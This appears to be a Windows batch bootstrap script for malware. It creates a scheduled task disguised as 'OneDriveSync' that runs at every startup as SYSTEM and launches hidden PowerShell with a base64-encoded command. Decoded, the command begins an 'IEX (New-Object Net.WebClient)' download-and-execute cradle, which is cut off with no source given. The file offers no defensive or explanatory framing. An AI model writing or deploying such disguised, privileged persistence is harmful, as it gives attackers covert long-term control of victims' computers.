REM bootstrap 5377 v1
schtasks /create /tn "OneDriveSync" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f
